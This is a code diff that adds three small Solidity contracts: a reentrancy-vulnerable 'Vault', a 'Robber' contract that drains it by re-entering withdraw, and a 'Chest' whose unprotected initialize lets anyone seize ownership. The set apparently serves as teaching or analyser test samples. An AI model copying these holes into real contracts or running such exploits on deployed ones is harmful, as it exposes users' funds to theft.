@@ -75,3 +75,56 @@ contract Clock {
         updatedAt = at;
     }
 }
+
+/// Pays before it forgets the debt.
+contract Vault {
+    mapping(address account => uint256) public owed;
+
+    constructor() payable {}
+
+    function deposit() external payable {
+        owed[msg.sender] += msg.value;
+    }
+
+    function withdraw() external {
+        (bool ok,) = msg.sender.call{value: owed[msg.sender]}("");
+        require(ok, "unpaid");
+        owed[msg.sender] = 0;
+    }
+}
+
+/// Comes back for more while it is paid.
+contract Robber {
+    Vault private immutable VAULT;
+
+    constructor(Vault vault) {
+        VAULT = vault;
+    }
+
+    function rob() external payable {
+        VAULT.deposit{value: msg.value}();
+        VAULT.withdraw();
+    }
+
+    receive() external payable {
+        if (address(VAULT).balance >= msg.value) VAULT.withdraw();
+    }
+}
+
+/// Belongs to whoever says so last.
+contract Chest {
+    address public boss;
+
+    constructor(address first) payable {
+        boss = first;
+    }
+
+    function initialize(address boss_) external {
+        boss = boss_;
+    }
+
+    function open(uint256 amount) external {
+        require(msg.sender == boss, "boss");
+        payable(msg.sender).transfer(amount);
+    }
+}
